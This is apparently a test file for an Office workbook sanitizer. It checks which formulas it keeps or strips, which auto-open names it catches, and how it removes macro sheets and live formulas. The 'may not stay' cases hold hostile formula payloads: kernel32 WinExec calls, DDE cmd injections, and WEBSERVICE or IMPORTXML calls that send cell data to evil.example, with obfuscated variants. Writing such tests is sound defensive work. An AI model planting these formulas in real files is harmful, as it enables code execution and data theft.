import { describe, expect, test } from 'vitest';
import { isAutoRunName, isSafeFormula } from '../../../lib/engines/disarm/office/formulas.ts';
import { disarm } from '../../../lib/engines/disarm/office/office.ts';
import { DEFAULT_ENGINE_LIMITS } from '../../../lib/engines/engine.ts';
import { describeType } from '../../../lib/formats/file-types.ts';
import { buildWorkbook, type WorkbookOptions } from '../../fixtures/build-workbook.ts';
import { officeParts } from './contents.ts';

const TYPE = describeType('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');

async function run(options: WorkbookOptions) {
  const bytes = await buildWorkbook(options);
  const report = await disarm({ bytes, untrustedName: 'a.xlsx', password: null }, TYPE, DEFAULT_ENGINE_LIMITS);
  const again = await disarm({ ...report, untrustedName: '', password: null }, TYPE, DEFAULT_ENGINE_LIMITS);
  expect(again.outcome).toBe('already_safe');
  const parts = await officeParts(report.bytes);
  return {
    ...report,
    sheet: parts.get('xl/worksheets/sheet1.xml') ?? '',
    workbook: parts.get('xl/workbook.xml') ?? '',
    names: [...parts.keys()].join(' '),
  };
}

test.each([
  'SUM(A1:B2)*1.19',
  '\'My sheet\'!A1&"a|b"',
  'Table1[[2019]:[2020]]',
  'VLOOKUP(A1,Table1[Column],2,FALSE)',
  'HYPERLINK("https://example.com/","site")',
  'HYPERLINK("#Last!A1")',
  'IF(A1="CALL(","x","y")',
  '_xlfn.XLOOKUP(A1,B:B,C:C)',
  'RECALL(1)',
  `'it''s'!A1&"|"&"it's CALL("&'a b'!A1`,
  `Table1[it''s]&"a|b"&Table1[[#This Row],[a b]]`,
  'BYROW(A1:C3,_xleta.SUM)',
  '_xlfn._xlws.FILTER(A1:A9,B1:B9)',
  `INDIRECT("'"&A1&"'!B2")`,
  'INDIRECT("Table1["&A1&"]")',
  'IFERROR(__xludf.DUMMYFUNCTION("UNIQUE(A1:A9)"),1)',
  'IFERROR(__xludf.DUMMYFUNCTION("""COMPUTED_VALUE"""),1)',
])('the formula %s may stay', (formula) => {
  expect(isSafeFormula(formula)).toBe(true);
});

test.each([
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  '_xlfn.WEBSERVICE("https://evil.example/?"&A1)',
  'rtd("server",,"x")',
  "cmd|'/c calc'!A1",
  '[1]Sheet1!A1',
  "'C:\\[book.xlsx]Sheet1'!A1",
  "'\\\\server\\share\\[b.xls]S'!A1",
  'HYPERLINK("https://example.com/"&A1)',
  `'"'!A1+cmd|'/c calc'!A0+'"'!A1`,
  `'it''s "'!A1+WEBSERVICE(A1)+'"'!A1`,
  `'"'!A1+WEBSERVICE("https://evil.example/"&A1)`,
  'T["]+WEBSERVICE("https://evil.example/"&A1)',
  `T['"]+WEBSERVICE(A1)+T['"]`,
  `T['#]&'"'!A1+WEBSERVICE(A1)+'"'!A1`,
  `'['!A1&'"'!A1+WEBSERVICE(A1)+'"'!A1`,
  `T['#]&"'"&cmd|'/c calc'!A0`,
  'MAP(A1:A9,_xleta.WEBSERVICE)',
  'MAP(A1:A9,_xlfn._xleta.HYPERLINK)',
  'HYPERLINK(A1)',
  'HYPERLINK("file:///c:/a.exe")',
  'SUM(EXEC ("calc"))',
  '_xll.RUNIT(1)',
  'REGISTER.ID("a","b")',
  `INDIRECT("'file:///tmp/a.ods'#$Sheet1.A1")`,
  `INDIRECT("'"&"\\\\server\\[a.xlsx]Sheet1'!A1")`,
  `IF(A1,INDIRECT("'["&B1&"]Sheet1'!A1"),0)`,
  '_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("https://evil.example/"))',
  'IMPORTRANGE("a","b")',
  'IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""https://evil.example/"",""//a"")"),1)',
  'IFERROR(__xludf.DUMMYFUNCTION("IMPORT"&"DATA(""https://evil.example/"")"),1)',
  '__xludf.DUMMYFUNCTION(A1)',
])('the formula %s may not stay', (formula) => {
  expect(isSafeFormula(formula)).toBe(false);
});

test.each(['Auto_Open', '_xlnm.auto_open', 'AUTO_OPEN_x', 'Auto\u00ad_Close', 'autoopen'])(
  'the name %j would run by itself',
  (name) => expect(isAutoRunName(name)).toBe(true),
);

describe('a workbook', () => {
  test('without live content keeps its bytes', async () => {
    const options = { cells: '<c r="A1"><f>1+1</f><v>2</v></c>' };
    const report = await run(options);
    expect(report.outcome).toBe('already_safe');
    expect(Buffer.compare(report.bytes, await buildWorkbook(options))).toBe(0);
  });

  test('keeps the cached value of a live formula', async () => {
    const { sheet } = await run({ cells: '<c r="A1"><f>WEBSERVICE("https://a.example")</f><v>42</v></c>' });
    expect(sheet).toContain('<c r="A1"><v>42</v></c>');
  });

  test('takes a shared formula from the whole group', async () => {
    const { sheet } = await run({
      cells:
        '<c r="A1"><f t="shared" si="0" ref="A1:B1">RTD("s",,"t")</f><v>1</v></c><c r="B1"><f t="shared" si="0"/><v>2</v></c>' +
        '<c r="C1"><f t="shared" si="1" ref="C1:D1">A1+1</f><v>3</v></c><c r="D1"><f t="shared" si="1"/><v>4</v></c>',
    });
    expect(sheet).toContain('<c r="A1"><v>1</v></c><c r="B1"><v>2</v></c>');
    expect(sheet).toContain('<c r="D1"><f t="shared" si="1"/><v>4</v></c>');
  });

  test('drops a data validation with a live formula', async () => {
    const rule = (formula: string) =>
      `<dataValidation type="list" sqref="A1"><formula1>${formula}</formula1></dataValidation>`;
    const { sheet } = await run({
      cells: '<c r="A1"><v>1</v></c>',
      behindData: `<dataValidations count="2">${rule('CALL("a","b")')}${rule('$A$1:$A$3')}</dataValidations>`,
    });
    expect(sheet).not.toContain('CALL');
    expect(sheet).toContain('$A$1:$A$3');
  });

  test('loses its macro sheet, the names that start it, and counts its other sheets anew', async () => {
    const report = await run({
      cells: '<c r="A1"><v>1</v></c>',
      macroSheet: true,
      names:
        '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="helper">Macro1!$A$2</definedName>' +
        '<definedName name="local" localSheetId="2">Last!$A$1</definedName>',
    });
    expect(report.names).not.toContain('macrosheets');
    expect(report.workbook).not.toContain('Macro1');
    expect(report.workbook).toContain('<definedName name="local" localSheetId="1">Last!$A$1</definedName>');
    expect(report.workbook).toContain('activeTab="1"');
  });
});
